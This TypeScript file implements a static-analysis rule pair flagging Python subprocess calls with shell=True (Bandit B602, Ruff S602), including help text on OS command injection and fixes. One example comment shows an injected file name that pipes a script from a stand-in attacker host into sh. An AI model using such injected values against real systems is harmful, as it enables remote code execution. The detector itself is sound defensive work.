/**
 * Bandit B602 / Ruff S602: a `subprocess` function run with `shell=True`.
 *
 * Two rules, because SARIF gives a rule one security-severity and Bandit grades B602 by the
 * command: HIGH when it is built at run time, LOW when it is a fixed literal. Both read the
 * shared call resolution (src/analysis/calls.ts) and report on the call's callee.
 *
 * Semantics (decided against Bandit and Ruff, precision first):
 * - The functions: `subprocess.Popen`, `call`, `check_call`, `check_output`, `run` (Bandit's
 *   `subprocess` list; `getoutput`/`getstatusoutput` always use a shell and belong to B605).
 * - `shell=` must be a constant known to be true: `True`, a non-zero number, a non-empty literal
 *   string or display. A name or any other expression (`shell=use_shell`) is not reported: its
 *   value is unknown (Ruff does the same; Bandit would report it). `shell` hidden in `**kwargs`
 *   is not seen.
 * - The command is the first positional argument or `args=`. With no visible command (only
 *   `**kwargs`) nothing is reported.
 * - A command is literal when it is a string (or bytes) literal with no interpolation, a
 *   concatenation of such literals, or a list/tuple made only of them: then nothing outside the
 *   program can reach it. Anything else (a name, an f-string with fields, `%`/`.format()`, a
 *   concatenation with a non-literal, `*args`) is a command built at run time.
 */
import type { SyntaxNode as Node } from '../../engine/tree';
import {
  argumentAt,
  calls,
  isPlainStringLiteral,
  keywordValue,
  truthiness,
  unparenthesize,
  type CallModel,
} from '../../analysis/calls';
import type { FileContext } from '../../engine/context';
import { PRECISION_FOR_CONFIDENCE, SECURITY_SEVERITY } from '../severity';
import { callName } from './common';
import type { Rule, RuleMeta } from '../types';

/** The `subprocess` functions that take `shell=` (Bandit's `shell_injection.subprocess` list). */
export const SUBPROCESS_FUNCTIONS: readonly string[] = [
  'subprocess.Popen',
  'subprocess.call',
  'subprocess.check_call',
  'subprocess.check_output',
  'subprocess.run',
];

/** True when the command cannot change at run time: literal strings, or a list/tuple of them. */
export function isLiteralCommand(command: Node): boolean {
  const expr = unparenthesize(command);
  if (isPlainStringLiteral(expr, { allowBytes: true })) return true;
  if (expr.type === 'list' || expr.type === 'tuple') {
    return expr.namedChildren.every((item) => !item || item.type === 'comment' || isPlainStringLiteral(item, { allowBytes: true }));
  }
  return false;
}

/** A few words on how a run-time command is built, for the message. */
function describeCommand(command: Node): string {
  const expr = unparenthesize(command);
  switch (expr.type) {
    case 'identifier':
      return `the variable \`${expr.text}\``;
    case 'attribute':
    case 'subscript':
      return expr.text.length <= 40 ? `\`${expr.text}\`` : 'a value read at run time';
    case 'string':
    case 'concatenated_string':
      return 'an f-string';
    case 'binary_operator': {
      const operator = expr.childForFieldName('operator')?.type;
      if (operator === '%') return '`%`-formatting';
      if (operator === '+') return 'a concatenation';
      return 'an expression';
    }
    case 'call': {
      const fn = expr.childForFieldName('function');
      const attribute = fn?.type === 'attribute' ? fn.childForFieldName('attribute')?.text : undefined;
      if (attribute === 'format') return '`str.format()`';
      if (attribute === 'join') return 'a `join()`';
      return 'the result of a call';
    }
    case 'list_splat':
      return '`*` unpacking';
    case 'list':
    case 'tuple':
      return `a ${expr.type} with non-literal items`;
    default:
      return 'an expression';
  }
}

/** `shell=True` as written, or a generic wording when the value is long. */
function shellText(value: Node): string {
  const text = value.text.replace(/\s+/g, ' ');
  return text.length <= 20 ? `\`shell=${text}\`` : 'a true `shell=` value';
}

const WHAT_IS_NOT_REPORTED = `## What is not reported

- \`shell=False\`, \`shell=None\`, \`shell=0\`, an empty literal such as \`shell=[]\`, or no \`shell\` argument.
- \`shell=\` given by a variable or any other expression whose value is not a constant
  (\`shell=use_shell\`, \`shell=os.name == "nt"\`): the value is not known before run time.
- Calls whose function is not surely one of \`subprocess.Popen\`, \`call\`, \`check_call\`,
  \`check_output\` and \`run\`: the name is resolved through the file's imports (\`import subprocess
  as sp\`, \`from subprocess import Popen as P\` are followed), and a call through a name that was
  rebound, or imported differently in different places, is left alone.
- \`shell\` or the command passed only inside \`**kwargs\`.
- Functions that always use a shell (\`os.system\`, \`subprocess.getoutput\`) and \`shell=True\` on
  functions outside \`subprocess\`: those are other checks (Bandit B605, B604).`;

const SPLIT = `## Why two rules

Bandit grades this check by the command: high severity when it is built at run time, low when it
is a fixed literal. A code scanning rule carries a single severity, so Tendril reports the two
cases as \`subprocess-shell-true\` (built at run time, high) and \`subprocess-shell-true-literal\`
(literal, low). A command is literal when it is a string (or bytes) literal without
interpolation, a concatenation of such literals, or a list or tuple made only of them. Both answer to Bandit's \`B602\` and Ruff's \`S602\`, so selecting or ignoring
either code covers both.`;

function helpText(literal: boolean): string {
  const intro = literal
    ? `# A \`subprocess\` call runs a literal command through a shell

\`shell=True\` makes Python hand the command to \`/bin/sh -c\` (\`cmd.exe /c\` on Windows) instead of
starting the program directly. Here the command is a fixed string, so nothing outside the program
can change it today, and the call is not exploitable as written.

It is still reported, with a low severity, because the shell stays in place when the code
changes: the day someone adds a file name, a branch name or a user's input to that string, every
space, quote, \`;\`, \`|\`, \`$(...)\` and \`*\` in the value is interpreted by the shell, and the
call becomes a shell injection (CWE-78) without anything else in the line changing. The shell
also costs an extra process and makes the command depend on the platform's shell.

## Example

\`\`\`python
import subprocess

subprocess.run("git status --porcelain", shell=True)
\`\`\``
    : `# A \`subprocess\` call runs a command built at run time through a shell

\`shell=True\` makes Python hand the command to \`/bin/sh -c\` (\`cmd.exe /c\` on Windows) instead of
starting the program directly. Here the command is not a fixed literal: it comes from a variable,
an f-string, formatting or a concatenation. Whatever ends up in it is parsed by the shell, so if
any part of it can come from outside the program (a request, a file name, a command-line
argument, an environment variable, a database row), characters such as \`;\`, \`|\`, \`&&\`, \`$(...)\`,
backquotes, quotes, spaces and \`*\` let that input run commands of its own choosing with the
program's privileges: OS command injection (CWE-78).

## Example

\`\`\`python
import subprocess

def archive(name):
    # name = "x; curl -s evil.example | sh" runs the attacker's script
    subprocess.run(f"tar czf {name}.tgz {name}", shell=True, check=True)
\`\`\``;

  const fixed = literal
    ? 'subprocess.run(["git", "status", "--porcelain"])'
    : 'def archive(name):\n    subprocess.run(["tar", "czf", f"{name}.tgz", "--", name], check=True)';
  const fix = `## How to fix

Pass the command as a list of arguments and drop \`shell=True\` (\`shell=False\` is the default).
The program is then started directly: each list item reaches it as one argument, exactly as
given, and no shell ever interprets it.

\`\`\`python
import subprocess

${fixed}
\`\`\`

Shell features have plain-Python replacements: a pipe is two \`subprocess\` calls (or
\`input=\`/\`stdout=\` arguments), a redirection is \`stdout=open(path, "wb")\`, a wildcard is
\`glob.glob()\`, \`~\` and \`$HOME\` are \`os.path.expanduser()\`/\`os.environ\`, \`cd dir &&\` is
\`cwd="dir"\`. Where a shell is really needed, quote every value that is not fixed with
\`shlex.quote()\` (POSIX shells only; it does not protect \`cmd.exe\`):

\`\`\`python
import shlex
import subprocess

subprocess.run(f"du -sh -- {shlex.quote(path)} | sort -h", shell=True, check=True)
\`\`\``;

  return [intro, fix, WHAT_IS_NOT_REPORTED, SPLIT].join('\n\n');
}

function makeMeta(literal: boolean): RuleMeta {
  const level = literal ? 'LOW' : 'HIGH';
  return {
    id: literal ? 'subprocess-shell-true-literal' : 'subprocess-shell-true',
    name: literal ? 'SubprocessShellTrueLiteral' : 'SubprocessShellTrue',
    kind: 'security',
    shortDescription: literal
      ? 'subprocess call runs a literal command through a shell (shell=True)'
      : 'subprocess call runs a command built at run time through a shell (shell=True)',
    fullDescription: literal
      ? 'A subprocess function (Popen, call, check_call, check_output, run) is called with shell=True ' +
        'and a fixed literal command. It is safe as written, but the shell stays in place if the command ' +
        'later gains a variable part, which would turn the call into a shell injection. Passing an argument ' +
        'list without a shell removes the risk.'
      : 'A subprocess function (Popen, call, check_call, check_output, run) is called with shell=True ' +
        'and a command built at run time (a variable, an f-string, formatting or a concatenation). The ' +
        'shell interprets the whole command, so any part that comes from outside the program can inject ' +
        'commands of its own (OS command injection). Pass an argument list without a shell instead.',
    help: helpText(literal),
    category: 'injection',
    aliases: ['B602', 'S602'],
    precision: PRECISION_FOR_CONFIDENCE.HIGH,
    securitySeverity: SECURITY_SEVERITY[level],
    cwe: [78],
  };
}

function makeRule(literal: boolean): Rule {
  const meta = makeMeta(literal);
  return {
    meta,
    uses: [calls],
    create(context: FileContext) {
      return {
        end() {
          const model = context.analysis<CallModel>('calls');
          for (const call of model.callsTo(SUBPROCESS_FUNCTIONS)) {
            const shell = keywordValue(call.node, 'shell');
            if (!shell || truthiness(shell) !== true) continue;
            const command = argumentAt(call.node, 0, 'args');
            if (!command || isLiteralCommand(command) !== literal) continue;
            const name = callName(call);
            const message = literal
              ? `${name} runs a literal command through a shell (${shellText(shell)}): safe as written, ` +
                'but it becomes a shell injection if the command ever includes outside input; pass an argument list instead'
              : `${name} runs a command built at run time (${describeCommand(command)}) through a shell ` +
                `(${shellText(shell)}): any part of it that comes from outside the program can inject shell commands`;
            context.report(meta, call.callee, message);
          }
        },
      };
    },
  };
}

/** B602, HIGH: `shell=True` with a command built at run time. */
export const subprocessShellTrue: Rule = makeRule(false);

/** B602, LOW: `shell=True` with a literal command. */
export const subprocessShellTrueLiteral: Rule = makeRule(true);
